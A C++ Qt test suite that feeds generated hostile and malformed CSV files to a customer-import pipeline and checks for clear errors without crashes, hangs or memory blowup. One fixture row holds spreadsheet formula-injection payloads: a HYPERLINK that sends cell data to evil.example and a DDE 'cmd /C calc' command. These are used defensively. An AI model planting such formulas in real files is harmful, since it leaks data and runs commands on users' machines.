// Hostile and broken CSV files through everything an import does
// before it sends anything: CsvSniffer, CsvReader with the sniffed options,
// the automatic column mapping of both services and ImportRowMapper on every
// row. Each file must end with something the person can act on (a read error,
// a cut row, a row error, a column to choose, "no rows"), never a crash, a
// hang or unbounded memory.
//
// The files are generated here rather than committed: several are megabytes
// of the same byte, and the generator says what each one is about. Inputs
// the fuzzers found are data rows too (see fuzzFindings).

#include "columnmapping.h"
#include "csvreader.h"
#include "csvsniffer.h"
#include "importrowmapper.h"

#include <QBuffer>
#include <QElapsedTimer>
#include <QFile>
#include <QRandomGenerator>
#include <QStringDecoder>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>

#include <functional>
#include <optional>

namespace {

// What a file must at least produce; Any: some message, whichever.
enum class Expect {
    Any,
    NoRows, // nothing at all to import
    NoDataRows, // a header (or what looks like one) and nothing else
    UnexpectedEof,
    FieldTooLong,
    TooManyFields,
    MissingMapping, // no column names an identifier
    RowErrors, // the row mapper or validators complain about rows
    DecodingErrors,
    Literal, // formulas and such stay text, byte for byte
};

struct Outcome
{
    CsvReadResult result;
    qint64 rows = 0;
    QStringList header;
    QStringList messages; // everything the person would be shown
    int fieldTooLong = 0;
    int tooManyFields = 0;
    int rowIssues = 0;
    int missingMapping = 0;
    QStringList firstDataRow;
    QString woowUpFirstName; // of the first data row, as the mapper converted it
};

double timeScale()
{
    // Sanitizer builds run several times slower (scripts/sanitize.sh sets it).
    bool ok = false;
    const double scale = qEnvironmentVariable("USERDESK_TEST_TIME_SCALE").toDouble(&ok);
    return ok && scale >= 1 ? scale : 1.0;
}

qint64 procStatusKb(const char *key)
{
    QFile status(QStringLiteral("/proc/self/status"));
    if (!status.open(QIODevice::ReadOnly))
        return -1;
    const QByteArray prefix = QByteArray(key) + ':';
    for (const QByteArray &line : status.readAll().split('\n')) {
        if (line.startsWith(prefix))
            return line.mid(prefix.size()).trimmed().split(' ').value(0).toLongLong();
    }
    return -1;
}

// Peak RSS starts again from the current RSS (Linux >= 4.0), so that each
// file's peak is its own and not the biggest earlier one's.
bool resetPeakRss()
{
    QFile clearRefs(QStringLiteral("/proc/self/clear_refs"));
    return clearRefs.open(QIODevice::WriteOnly) && clearRefs.write("5") == 1;
}

QByteArray repeated(const QByteArray &piece, qsizetype times)
{
    return piece.repeated(times);
}

QByteArray encoded(const QString &text, QStringConverter::Encoding encoding)
{
    QStringEncoder encoder(encoding);
    return encoder.encode(text);
}

QByteArray encoded(const QString &text, const char *encodingName)
{
    QStringEncoder encoder(encodingName);
    return encoder.encode(text);
}

QByteArray randomBytes(qsizetype size, quint32 seed)
{
    QRandomGenerator random(seed);
    QByteArray bytes(size, Qt::Uninitialized);
    for (char &byte : bytes)
        byte = char(random.bounded(256));
    return bytes;
}

using Generator = std::function<QByteArray()>;

const QByteArray customerHeader = "email,first_name,last_name,telephone,points,birthdate\n";

} // namespace

Q_DECLARE_METATYPE(Expect)
Q_DECLARE_METATYPE(Generator)

class TestHostileCsv : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void hostileFile_data();
    void hostileFile();
    void fuzzFinding_data();
    void fuzzFinding();

private:
    Outcome run(const QString &path, const std::function<bool()> &overTime);

    QTemporaryDir m_dir;
    int m_filesTried = 0;
};

void TestHostileCsv::initTestCase()
{
    QVERIFY(m_dir.isValid());
}

void TestHostileCsv::hostileFile_data()
{
    QTest::addColumn<Generator>("generate");
    QTest::addColumn<Expect>("expect");

    auto add = [](const char *name, Expect expect, Generator generate) {
        QTest::newRow(name) << std::move(generate) << expect;
    };

    add("empty file", Expect::NoRows, []() -> QByteArray { return QByteArray(); });
    add("UTF-8 BOM only", Expect::NoRows,
        []() -> QByteArray { return QByteArray("\xEF\xBB\xBF"); });
    add("UTF-16LE BOM only", Expect::NoRows, []() -> QByteArray { return QByteArray("\xFF\xFE"); });
    add("100k empty lines", Expect::NoRows, []() -> QByteArray { return repeated("\n", 100000); });
    add("100k CRLF lines of spaces", Expect::MissingMapping,
        []() -> QByteArray { return repeated("   \r\n", 100000); });
    add("only a header", Expect::NoDataRows, []() -> QByteArray { return customerHeader; });
    add("only a header without line break", Expect::NoDataRows,
        []() -> QByteArray { return customerHeader.chopped(1); });
    add("header of duplicates", Expect::RowErrors, []() -> QByteArray {
        return QByteArray("email,email,email,name,name,id,id\n"
                          "a@x.co,b@x.co,c@x.co,Ana,Bea,1,2\n"
                          "not-an-email,,,,,,\n");
    });
    add("header of empty names", Expect::MissingMapping,
        []() -> QByteArray { return QByteArray(",,,,\n1,2,3,4,5\n"); });
    add("binary garbage 64 KiB", Expect::Any,
        []() -> QByteArray { return randomBytes(64 * 1024, 9); });
    add("binary garbage 1 MiB", Expect::Any,
        []() -> QByteArray { return randomBytes(1024 * 1024, 10); });
    add("ELF-like header then garbage", Expect::Any, []() -> QByteArray {
        return QByteArray("\x7F"
                          "ELF\x02\x01\x01",
                          7)
            + randomBytes(4096, 11);
    });
    add("NUL bytes in fields", Expect::Any, []() -> QByteArray {
        QByteArray bytes = customerHeader;
        bytes += QByteArray("an\0a@x.co,An\0a,P\0,1\0,1\0\0,\0\n", 27);
        bytes += repeated(QByteArray("\0", 1), 10000) + '\n';
        return bytes;
    });
    add("10 MB single unquoted field", Expect::FieldTooLong,
        []() -> QByteArray { return customerHeader + repeated("x", 10 * 1024 * 1024) + '\n'; });
    add("10 MB single quoted field", Expect::FieldTooLong, []() -> QByteArray {
        return customerHeader + "a@x.co,\"" + repeated("y", 10 * 1024 * 1024) + "\"\n";
    });
    add("10 MB line of quotes", Expect::Any,
        []() -> QByteArray { return customerHeader + repeated("\"", 10 * 1024 * 1024); });
    add("a million columns in a row", Expect::TooManyFields,
        []() -> QByteArray { return customerHeader + "a@x.co" + repeated(",1", 1000000) + '\n'; });
    add("a header of 100k columns", Expect::TooManyFields,
        []() -> QByteArray { return repeated("email,", 100000) + "\nx\n"; });
    add("unclosed quote", Expect::UnexpectedEof, []() -> QByteArray {
        return customerHeader + "a@x.co,\"Ana,Perez,1\nb@x.co,Bea,Diaz,2\n";
    });
    add("unclosed quote at the last byte", Expect::UnexpectedEof,
        []() -> QByteArray { return customerHeader + "a@x.co,\""; });
    add("quotes inside unquoted fields", Expect::Any, []() -> QByteArray {
        return customerHeader
            + "a@x.co,An\"a\",Pe\"\"rez,1,2,1990-01-01\nb\"@x.co,\"B\"ea,x,y,z,w\n";
    });
    add("CR-only line endings", Expect::RowErrors, []() -> QByteArray {
        QByteArray bytes = customerHeader;
        bytes.replace('\n', '\r');
        return bytes + "a@x.co,Ana,Perez,1,doce,1990-31-31\rb@x.co,Bea,Diaz,2,3,1990-01-01\r";
    });
    add("mixed line endings", Expect::RowErrors, []() -> QByteArray {
        return QByteArray(
            "email,first_name,points\r\na@x.co,Ana,1\rb@x.co,Bea,x\n\rc@x.co,Cy,3\n\r\n");
    });
    add("sep line with a letter", Expect::Any, []() -> QByteArray {
        return "sep=x\n" + customerHeader + "a@x.co,Ana,P,1,2,1990-01-01\n";
    });
    add("sep line with a quote", Expect::Any, []() -> QByteArray {
        return "sep=\"\n" + customerHeader + "a@x.co,Ana,P,1,2,1990-01-01\n";
    });
    add("sep line empty", Expect::Any,
        []() -> QByteArray { return "sep=\n" + customerHeader + "a@x.co,Ana,P,1,2,1990-01-01\n"; });
    add("sep line with a line break char", Expect::Any, []() -> QByteArray {
        return "sep=\r\n" + customerHeader + "a@x.co,Ana,P,1,2,1990-01-01\n";
    });
    add("sep line alone", Expect::NoRows, []() -> QByteArray { return QByteArray("sep=;"); });
    add("formulas", Expect::Literal, []() -> QByteArray {
        return customerHeader
            + "a@x.co,\"=HYPERLINK(\"\"http://evil.example/"
              "?\"\"&A1,\"\"click\"\")\",P,1,2,1990-01-01\n"
              "b@x.co,+cmd|' /C calc'!A0,P,1,2,1990-01-01\n"
              "c@x.co,-2+3,P,1,2,1990-01-01\n"
              "d@x.co,@SUM(A1:A9),P,1,2,1990-01-01\n";
    });
    add("fields beyond the APIs' limits", Expect::RowErrors, []() -> QByteArray {
        return "id,name,phone,email,first_name,points\n" + repeated("9", 300) + ','
            + repeated("N", 5000) + ',' + repeated("7", 200) + ',' + repeated("a", 400) + "@x.co,"
            + repeated("F", 5000) + ",99999999999999999999999999999\n";
    });
    add("UTF-16LE without BOM", Expect::Any, []() -> QByteArray {
        return encoded(QString::fromUtf8(customerHeader + "zoë@x.co,Zoë,Núñez,1,2,1990-01-01\n"),
                       QStringConverter::Utf16LE);
    });
    add("UTF-16BE without BOM", Expect::Any, []() -> QByteArray {
        return encoded(QString::fromUtf8(customerHeader + "zoë@x.co,Zoë,Núñez,1,2,1990-01-01\n"),
                       QStringConverter::Utf16BE);
    });
    add("UTF-16LE with an odd byte count", Expect::Any, []() -> QByteArray {
        return QByteArray("\xFF\xFE")
            + encoded(QStringLiteral("email\na@x.co\n"), QStringConverter::Utf16LE) + 'Z';
    });
    add("UTF-32 BOM", Expect::Any, []() -> QByteArray {
        return QByteArray("\xFF\xFE\0\0", 4)
            + encoded(QStringLiteral("email\na@x.co\n"), QStringConverter::Utf32LE);
    });
    add("truncated UTF-8", Expect::DecodingErrors, []() -> QByteArray {
        return customerHeader + "a@x.co,Jos\xC3\xA9,Mu\xC3\xB1oz,1,2,1990-01-01\nb@x.co,\xE2\x82";
    });
    add("invalid UTF-8 after 64 KiB of ASCII", Expect::DecodingErrors, []() -> QByteArray {
        return customerHeader + repeated("a@x.co,Ana,Perez,1,2,1990-01-01\n", 3000)
            + "b@x.co,\xC0\xAF\xED\xA0\x80\xF8\x88\x80\x80\x80,P,1,2,1990-01-01\n";
    });
    add("mixed encodings", Expect::Any, []() -> QByteArray {
        return customerHeader + "a@x.co,José,Muñoz,1,2,1990-01-01\n"
            + encoded(QStringLiteral("b@x.co,Jos\u00e9,Mu\u00f1oz,1,2,1990-01-01\n"),
                      "windows-1252")
            + encoded(QStringLiteral("c@x.co,\u0410\u043d\u043d\u0430,\u041f,1,2,1990-01-01\n"),
                      "windows-1251");
    });
    add("BOM in the middle", Expect::Any, []() -> QByteArray {
        return customerHeader + "a@x.co,Ana,P,1,2,1990-01-01\n\xEF\xBB\xBF" + customerHeader
            + "b@x.co,\xEF\xBB\xBF"
              "Bea,P,1,2,1990-01-01\n";
    });
    add("control characters", Expect::Any, []() -> QByteArray {
        QByteArray row = "a@x.co,";
        for (char c = 1; c < 32; ++c)
            row += c == '\n' || c == '\r' || c == ',' ? 'x' : c;
        return customerHeader + row + "\x7F,P,1,2,1990-01-01\n";
    });
    add("bidi overrides and combining marks", Expect::Any, []() -> QByteArray {
        return customerHeader
            + "a@x.co,\u202EnhoJ\u202C,Z\u0351\u0352\u0353\u0354\u0355,1,2,1990-01-01\n";
    });
    add("ragged rows", Expect::RowErrors, []() -> QByteArray {
        QByteArray bytes = customerHeader;
        for (int i = 0; i < 20000; ++i)
            bytes += repeated("a@x.co,", i % 13) + '\n';
        return bytes;
    });
    add("10k rows of bad values", Expect::RowErrors, []() -> QByteArray {
        QByteArray bytes = customerHeader;
        for (int i = 0; i < 10000; ++i)
            bytes += "user" + QByteArray::number(i) + "@@x,Ana,P,+-+-" + QByteArray::number(i)
                + ",twelve,31/31/31\n";
        return bytes;
    });
    add("1 MiB line without delimiters", Expect::FieldTooLong,
        []() -> QByteArray { return "email\n" + repeated("z", 1024 * 1024 + 10) + '\n'; });
    add("only delimiters", Expect::MissingMapping,
        []() -> QByteArray { return repeated(repeated(";", 50) + '\n', 1000); });
    add("tab, semicolon and pipe all at once", Expect::Any, []() -> QByteArray {
        return QByteArray("email;first_name\tlast_name|points\na@x.co;Ana\tP|1\nb@x.co|Bea;Q\t2\n");
    });
}

Outcome TestHostileCsv::run(const QString &path, const std::function<bool()> &overTime)
{
    Outcome outcome;
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly)) {
        outcome.messages.append(file.errorString());
        return outcome;
    }
    const CsvSniffResult sniffed = CsvSniffer::sniff(&file);
    CsvOptions options;
    options.encoding = sniffed.encoding;
    options.delimiter = sniffed.delimiter;

    std::optional<ImportRowMapper> wazzup;
    std::optional<ImportRowMapper> woowup;
    outcome.result = CsvReader::read(&file, options, [&](const CsvRow &row) {
        ++outcome.rows;
        if (row.hasProblem()) {
            (row.problem == CsvRow::Problem::FieldTooLong ? outcome.fieldTooLong
                                                          : outcome.tooManyFields)++;
            if (outcome.messages.size() < 1000)
                outcome.messages.append(CsvReader::problemText(row, options));
        }
        if (!woowup) {
            outcome.header = row.fields;
            const ColumnMapping wazzupMapping =
                ColumnMapping::automatic(Service::Wazzup, row.fields);
            const ColumnMapping woowupMapping =
                ColumnMapping::automatic(Service::WoowUp, row.fields);
            for (const ColumnMapping &mapping : {wazzupMapping, woowupMapping}) {
                const QStringList missing = mapping.missingRequirements();
                outcome.missingMapping += int(missing.size());
                outcome.messages += missing;
            }
            wazzup.emplace(wazzupMapping);
            woowup.emplace(woowupMapping);
            return !overTime();
        }
        ValidationIssues issues;
        wazzup->toWazzupUser(row, &issues);
        const WoowUpCustomer customer = woowup->toWoowUpCustomer(row, &issues);
        if (outcome.rows == 2) {
            outcome.firstDataRow = row.fields;
            outcome.woowUpFirstName = customer.firstName;
        }
        outcome.rowIssues += int(issues.size());
        for (const ValidationIssue &issue : issues) {
            if (outcome.messages.size() < 1000)
                outcome.messages.append(issue.message);
        }
        // A reader stuck in a loop would not come back here; a slow one
        // stops now instead of holding the suite until CTest's timeout.
        return !overTime();
    });
    if (!outcome.result.errorText.isEmpty())
        outcome.messages.prepend(outcome.result.errorText);
    if (outcome.rows == 0) {
        // What the import says for a file without records; the reader has
        // no message of its own for it, so the test names the condition.
        outcome.messages.append(QStringLiteral("no rows"));
    }
    return outcome;
}

void TestHostileCsv::hostileFile()
{
    QFETCH(Generator, generate);
    QFETCH(Expect, expect);

    const QString path = m_dir.filePath(QStringLiteral("hostile-%1.csv").arg(m_filesTried++));
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        const QByteArray bytes = generate();
        QCOMPARE(file.write(bytes), bytes.size());
    }

    const qint64 limitMs = qint64(10000 * timeScale());
    const bool peakReset = resetPeakRss();
    const qint64 rssBeforeKb = procStatusKb("VmRSS");
    QElapsedTimer clock;
    clock.start();
    const Outcome outcome = run(path, [&] { return clock.elapsed() > limitMs; });
    const qint64 elapsedMs = clock.elapsed();
    const qint64 growthKb = procStatusKb("VmHWM") - rssBeforeKb;
    QFile::remove(path);

    qInfo("%lld rows, status %d, %d cut, %d row issues, %d mapping, decoding errors %d, "
          "%lld ms, peak +%lld KiB; first message: %s",
          outcome.rows, int(outcome.result.status), outcome.fieldTooLong + outcome.tooManyFields,
          outcome.rowIssues, outcome.missingMapping, int(outcome.result.decodingErrors), elapsedMs,
          growthKb, qPrintable(outcome.messages.value(0)));

    QVERIFY2(elapsedMs < limitMs, "took longer than the bound: a hang or quadratic time");
    if (peakReset && rssBeforeKb > 0) {
        // 200 MB for the file's own work. AddressSanitizer keeps up to 256 MB
        // of freed memory in quarantine (and its shadow), so a build with it
        // is allowed that much more.
        qint64 boundKb = 200 * 1024;
#if defined(__SANITIZE_ADDRESS__)
        boundKb += 320 * 1024;
#endif
        QVERIFY2(growthKb < boundKb,
                 qPrintable(QStringLiteral("peak memory grew by %1 KiB").arg(growthKb)));
    }

    // Something to act on, and every message is a finished sentence.
    QVERIFY(!outcome.messages.isEmpty() || outcome.result.decodingErrors
            || outcome.result.raggedRowCount > 0);
    for (const QString &message : outcome.messages) {
        QVERIFY(!message.isEmpty());
        QVERIFY2(!message.contains(QLatin1String("%1")), qPrintable(message));
    }

    switch (expect) {
    case Expect::Any:
        break;
    case Expect::NoRows:
        QCOMPARE(outcome.rows, 0);
        QVERIFY(outcome.result.isSuccess());
        break;
    case Expect::NoDataRows:
        QCOMPARE(outcome.rows, 1);
        break;
    case Expect::UnexpectedEof:
        QCOMPARE(outcome.result.status, CsvReadResult::Status::UnexpectedEof);
        QVERIFY(outcome.result.errorLine > 0);
        break;
    case Expect::FieldTooLong:
        QVERIFY(outcome.fieldTooLong > 0);
        break;
    case Expect::TooManyFields:
        QVERIFY(outcome.tooManyFields > 0);
        break;
    case Expect::MissingMapping:
        QVERIFY(outcome.missingMapping > 0 || outcome.rows == 0);
        break;
    case Expect::RowErrors:
        QVERIFY(outcome.rowIssues > 0);
        break;
    case Expect::DecodingErrors:
        QVERIFY(outcome.result.decodingErrors);
        break;
    case Expect::Literal:
        // Imported as the text it is: nothing evaluates or strips it.
        QVERIFY(outcome.woowUpFirstName.startsWith(QLatin1String("=HYPERLINK(")));
        QCOMPARE(outcome.woowUpFirstName, outcome.firstDataRow.value(1).trimmed());
        break;
    }
}

// Inputs on which a fuzz target failed, as scripts/fuzz.sh printed them
// (Base64), checked the way that target checks them.
void TestHostileCsv::fuzzFinding_data()
{
    QTest::addColumn<QByteArray>("input");
    // fuzz_importmapping: a header cell starting with a BOM did not survive
    // ColumnMapping's JSON round trip (Qt's parser drops it).
    QTest::newRow("importmapping BOM in a header cell")
        << QByteArray::fromBase64("c2VwPTsNCmVtYWlsO2ZpcnN0X25hbWUsO2x2ZXJzaW9uZTtiaXJ0aGRhdGU777u/"
                                  "RW1hcG9pbCxOb21icmUsQWlucA==");
}

void TestHostileCsv::fuzzFinding()
{
    QFETCH(QByteArray, input);
    QBuffer buffer(&input);
    QVERIFY(buffer.open(QIODevice::ReadOnly));
    std::optional<ImportRowMapper> woowup;
    std::optional<ImportRowMapper> wazzup;
    bool roundTrips = true;
    const CsvReadResult result = CsvReader::read(&buffer, CsvOptions(), [&](const CsvRow &row) {
        if (!woowup) {
            for (Service service : {Service::Wazzup, Service::WoowUp}) {
                const ColumnMapping mapping = ColumnMapping::automatic(service, row.fields);
                bool ok = false;
                roundTrips =
                    roundTrips && ColumnMapping::fromJson(mapping.toJson(), &ok) == mapping && ok;
                (service == Service::WoowUp ? woowup : wazzup).emplace(mapping);
            }
            return true;
        }
        ValidationIssues issues;
        wazzup->toWazzupUser(row, &issues);
        woowup->toWoowUpCustomer(row, &issues);
        for (const ValidationIssue &issue : issues)
            roundTrips = roundTrips && !issue.message.isEmpty();
        return true;
    });
    QVERIFY(result.rowCount > 0 || !result.isSuccess());
    QVERIFY2(roundTrips, "a saved mapping did not come back equal, or an issue had no message");
}

QTEST_GUILESS_MAIN(TestHostileCsv)
#include "tst_hostilecsv.moc"
